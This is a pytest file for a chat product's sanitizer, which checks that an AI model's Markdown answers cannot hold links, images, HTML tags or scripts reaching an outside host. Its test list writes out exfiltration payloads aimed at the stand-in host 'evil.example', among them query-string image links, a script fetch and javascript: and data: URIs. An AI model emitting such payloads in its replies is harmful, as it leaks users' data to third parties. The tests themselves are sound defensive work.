"""Nothing in a model's Markdown can lead, load or pose as anything."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from znatok.chat.claims.markup import addresses_in, cleaned, escaped, plain

EVIL = "evil.example"


def shown(text: str, allowed: str = "") -> str:
    return escaped(cleaned(text, addresses_in(allowed)).text, begins_line=True)


@pytest.mark.parametrize(
    "way",
    [
        f"![x](https://{EVIL}/1.png)",
        f"![x][ref]\n\n[ref]: https://{EVIL}",
        f"[сюда](https://{EVIL}/?q=1)",
        f"[сюда](//{EVIL})",
        f"<https://{EVIL}>",
        f"<img src='https://{EVIL}/x'>",
        f"<script>fetch('//{EVIL}')</script>",
        f"https://{EVIL}/?q=1",
        f"https:\\/\\/{EVIL}/?q=1",
        f"www.{EVIL}",
        f"{EVIL}/path?q=1",
        f"user%20data@{EVIL}",
        f"mailto:x@{EVIL}?body=1",
        f"javascript:location='//{EVIL}'",
        f"data:text/html,<img src=//{EVIL}>",
    ],
)
def test_no_way_out_remains(way: str) -> None:
    text = shown(f"Слова {way} и ещё.")
    assert EVIL not in text
    assert text.startswith("Слова ")
    kinds = {
        each.type
        for token in MarkdownIt("commonmark", {"html": True}).parse(text)
        for each in (token, *(token.children or ()))
    }
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}


def test_an_address_that_a_source_holds_stays_to_the_letter() -> None:
    held = "Заявки: https://help.company.example/vpn или it@company.example."
    assert "https://help.company.example/vpn" in shown(
        "См. https://help.company.example/vpn.", held
    )
    assert "?q=" not in shown("См. https://help.company.example/vpn?q=секрет.", held)
    assert "it@company.example" in shown("Пишите на it@company.example.", held)


def test_what_only_looks_like_an_address_stays() -> None:
    text = "Это т.е. п. 4.2, версия 1.2.3 и файл отчёт.docx."
    assert cleaned(text, frozenset()).text == text


def test_bold_and_code_stay_and_are_no_part_of_the_words() -> None:
    text = "**Важно**: наберите `ipconfig /all` и 5*3"
    assert shown(text) == "**Важно**: наберите `ipconfig /all` и 5\\*3"
    assert plain(text) == "Важно: наберите ipconfig /all и 5*3"


def test_no_label_survives_that_the_check_did_not_give() -> None:
    assert shown("Слова [![x](https://evil.example)1] и `[2]`") == "Слова \\[1] и \\[2]"


@given(st.text(alphabet="[]()<>!*`_\\/:#. \nabя1@", max_size=60))
def test_no_text_becomes_a_link_an_image_or_a_tag(text: str) -> None:
    made = shown(" ".join(text.split()))
    for token in MarkdownIt("commonmark", {"html": True}).parse(made):
        for each in (token, *(token.children or ())):
            assert each.type not in {"image", "link_open", "html_inline", "html_block"}
